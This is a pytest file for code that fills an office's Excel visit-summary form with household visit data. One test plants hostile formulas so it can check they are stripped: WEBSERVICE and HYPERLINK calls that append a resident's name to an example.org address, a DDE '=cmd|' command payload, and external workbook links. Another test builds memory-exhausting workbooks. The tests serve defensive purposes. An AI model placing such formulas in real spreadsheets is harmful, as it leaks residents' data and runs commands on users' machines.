"""An office's own form, filled in from a period's visits in its columns, order, sheets and styles."""

import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hostile_workbooks import text_cell, workbook_of
from ledger_town import ledger_town, write_warnings
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.workbook.external_link.external import ExternalBook, ExternalSheetNames
from openpyxl.worksheet.datavalidation import DataValidation

from features.language import UserError
from service.ledgers.form import fill_form, form_name
from service.ledgers.households_of_rows import Register

TOWN = ledger_town(30, 1)
REGISTER = pd.DataFrame(
    [
        {"household_id": home.number, "address": home.door, "person": name, "phone": phone}
        for home in TOWN.homes
        for name, _, _, phone in home.people
    ]
)


def rows(count: int = 3) -> pd.DataFrame:
    """What happened at the first households."""
    return pd.DataFrame(
        [
            {
                "household_id": home.number,
                "grid": home.grid,
                "microgrid": "",
                "address": home.door,
                "householder": home.head[0],
                "phone": home.head[3],
                "warned_of": "医疗自付支出较大",
                "deadline": "2025-06-20",
                "visited_on": "2025-06-03",
                "visited": "是",
                "worker": "赵敏",
                "need": "老年助餐",
                "found": "老年助餐：需要",
                "offered": "老年助餐：幸福食堂",
                "settled": "=办理中",
                "resolved_on": "",
                "done": "否",
                "satisfaction": "5",
            }
            for home in TOWN.homes[:count]
        ]
    )


def register() -> Register:
    return Register(REGISTER, pd.DataFrame(columns=["address", "person", "phone", "household_id"]))


def form(path: Path, blank: int = 2) -> Path:
    """A form with a title, a header of two lines, blank rows, and a signature line below."""
    book = Workbook()
    page = book.active
    page.title = "一户一条"
    page.append(["走访帮扶情况汇总表"])
    page.merge_cells("A1:H1")
    page.append(["序号", "家庭情况", None, "预警类型", "核查情况", "帮扶措施", "办理结果", "走访人"])
    page.append([None, "户主姓名", "家庭住址"])
    page.merge_cells("B2:C2")
    for column in "ADEFGH":
        page.merge_cells(f"{column}2:{column}3")
    for line in range(4, 4 + blank):
        for column in "ABCDEFGH":
            page[f"{column}{line}"].font = Font(name="宋体", size=9)
    page[f"A{4 + blank}"] = "填表人："
    page.merge_cells(f"A{4 + blank}:H{4 + blank}")
    book.create_sheet("说明")["A1"] = "每户一条"
    book.save(path)
    return path


def test_a_form_is_filled_one_row_a_household_and_keeps_its_looks(tmp_path: Path) -> None:
    template = form(tmp_path / "汇总表.xlsx")
    filled = fill_form(template, rows(), register(), tmp_path)
    (tmp_path / "out.xlsx").write_bytes(filled.content)
    book = load_workbook(tmp_path / "out.xlsx")
    page = book["一户一条"]
    assert book.sheetnames == ["一户一条", "说明"] and page["A1"].value == "走访帮扶情况汇总表"
    told = [[cell.value for cell in line] for line in page.iter_rows(min_row=4, max_row=6)]
    first = TOWN.homes[0]
    assert told[0] == [
        1,
        first.head[0],
        first.door,
        "医疗自付支出较大",
        "老年助餐：需要",
        "老年助餐：幸福食堂",
        "=办理中",
        "赵敏",
    ]
    assert [line[0] for line in told] == [1, 2, 3]
    assert page["G4"].data_type == "s", "a text that looks like a formula stays a text"
    assert page["B6"].font.size == 9 and page["A7"].value == "填表人："
    assert "A7:H7" in {str(area) for area in page.merged_cells.ranges}
    assert any("填了 3 户" in line for line in filled.lines)


def test_formulas_follow_the_rows_that_move(tmp_path: Path) -> None:
    template = form(tmp_path / "汇总表.xlsx")
    book = load_workbook(template)
    page = book["一户一条"]
    page["A7"], page["D7"], page["E7"] = "合计", "=COUNTA(D4:D5)", "=D7+$D$2"
    page["A8"].hyperlink = "https://example.org/"
    page.print_area = "A1:H7"
    book["说明"]["A2"], book["说明"]["A3"] = "=一户一条!D7", "=D7"
    book.save(template)
    (tmp_path / "out.xlsx").write_bytes(fill_form(template, rows(5), register(), tmp_path).content)
    book = load_workbook(tmp_path / "out.xlsx")
    page = book["一户一条"]
    assert [page["A10"].value, page["D10"].value, page["E10"].value] == [
        "合计",
        "=COUNTA(D4:D8)",
        "=D10+$D$2",
    ]
    assert [book["说明"]["A2"].value, book["说明"]["A3"].value] == ["=一户一条!D10", "=D7"]
    assert page["A11"].hyperlink.target == "https://example.org/" and page["A8"].hyperlink is None
    assert page.print_area == "'一户一条'!$A$1:$H$10"


def test_no_formula_of_a_filled_form_reaches_outside(tmp_path: Path) -> None:
    """Beside residents' data it would send it to another place, or bring in what stands there."""
    template = form(tmp_path / "汇总表.xlsx")
    book = load_workbook(template)
    page = book["一户一条"]
    outside = (
        '=_xlfn.WEBSERVICE("http://example.org/"&B4)',
        '=HYPERLINK("http://example.org/?"&B4,"见此")',
        "=SUM([1]Sheet1!A1)",
        "='C:\\表\\[上级.xlsx]Sheet1'!A1",
        "=cmd|'/c calc'!A0",
        "=上级的数",
        "=COUNTA(D4:D5)",
    )
    page["A7"] = "合计"
    for column, formula in zip("BCDEFGH", outside, strict=True):
        page[f"{column}7"] = formula
    book.defined_names["上级的数"] = DefinedName("上级的数", attr_text='WEBSERVICE("http://example.org/")')
    book._external_links.append(_other_file())
    page.conditional_formatting.add("B4:B9", FormulaRule(formula=["上级的数=B4"]))
    rule = DataValidation(type="list", formula1="上级的数")
    rule.add("B4:B9")
    page.add_data_validation(rule)
    book.save(template)
    filled = fill_form(template, rows(), register(), tmp_path)
    (tmp_path / "out.xlsx").write_bytes(filled.content)
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        content = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    words = ("example.org", "上级", "cmd|", "externalLink")
    assert not [(name, word) for name, text in content.items() for word in words if word in text]
    assert load_workbook(tmp_path / "out.xlsx")["一户一条"]["H8"].value == "=COUNTA(D4:D6)"
    assert "B7、C7、D7、E7、F7、G7：公式要用到别的文件" in filled.lines[0]
    assert "链接已去掉" in filled.lines[1]


def _other_file() -> ExternalLink:
    book = ExternalBook(sheetNames=ExternalSheetNames(["Sheet1"]), id="rId1")
    link = ExternalLink(externalBook=book)
    link.file_link = Relationship(type="externalLinkPath", Target="上级.xlsx", TargetMode="External")
    return link


def test_rows_that_are_numbered_already_are_filled(tmp_path: Path) -> None:
    template = form(tmp_path / "汇总表.xlsx", blank=3)
    book = load_workbook(template)
    for line in (4, 5, 6):
        book["一户一条"][f"A{line}"] = line - 3
    book.save(template)
    (tmp_path / "out.xlsx").write_bytes(fill_form(template, rows(2), register(), tmp_path).content)
    page = load_workbook(tmp_path / "out.xlsx")["一户一条"]
    told = [(page.cell(line, 1).value, page.cell(line, 2).value) for line in range(4, 8)]
    assert told == [(1, TOWN.homes[0].head[0]), (2, TOWN.homes[1].head[0]), (3, None), ("填表人：", None)]


def test_a_form_that_would_fill_the_memory_is_refused(tmp_path: Path) -> None:
    """A sheet of cells with nothing but a style is a small file, and takes gigabytes once it is opened to be filled."""
    heads = "".join(
        text_cell(place, word) for place, word in (("A1", "户主姓名"), ("B1", "家庭住址"), ("C1", "核查情况"))
    )
    first = f'<row r="1">{heads}</row>'
    styled = "".join(f'<row r="{line}">{"<c/>" * 8000}</row>' for line in range(2, 800))
    merged = '</sheetData><mergeCells><mergeCell ref="A2:XFD1048576"/></mergeCells><sheetData>'
    for rows_below in (styled, merged):
        path = workbook_of(tmp_path / "表.xlsx", first + rows_below, "A1:C1")
        assert path.stat().st_size < 1 << 18
        with pytest.raises(UserError, match="不像一张表格"):
            fill_form(path, rows(), register(), tmp_path)


def test_a_list_from_above_gets_its_blank_cells_and_nothing_else(tmp_path: Path) -> None:
    template = tmp_path / "预警名单.xlsx"
    write_warnings(TOWN, template, homes=4)
    before = load_workbook(template).active
    filled = fill_form(template, rows(2), register(), tmp_path)
    (tmp_path / "out.xlsx").write_bytes(filled.content)
    page = load_workbook(tmp_path / "out.xlsx").active
    named = {cell.value: cell.column for cell in page[2]}
    told = [page.cell(line, named["核查情况"]).value for line in range(3, 7)]
    assert told == ["老年助餐：需要", "老年助餐：需要", None, None]
    assert page.cell(3, named["帮扶措施"]).value == "老年助餐：幸福食堂"
    for line in range(1, 7):
        for column in range(1, 8):
            assert page.cell(line, column).value == before.cell(line, column).value
    assert page.max_row == 6


def test_a_form_of_which_no_column_is_known_is_refused(tmp_path: Path) -> None:
    book = Workbook()
    for row in (["甲", "乙", "丙", "丁", "戊", "己"], [1, 2, 3, 4, 5, 6]):
        book.active.append(row)
    book.save(tmp_path / "表.xlsx")
    with pytest.raises(UserError, match="没有一张表有认识的列"):
        fill_form(tmp_path / "表.xlsx", rows(), register(), tmp_path)
    assert form_name(tmp_path / "表.xlsx", date(2025, 6, 1), date(2025, 6, 30)) == "表_20250601-20250630.xlsx"
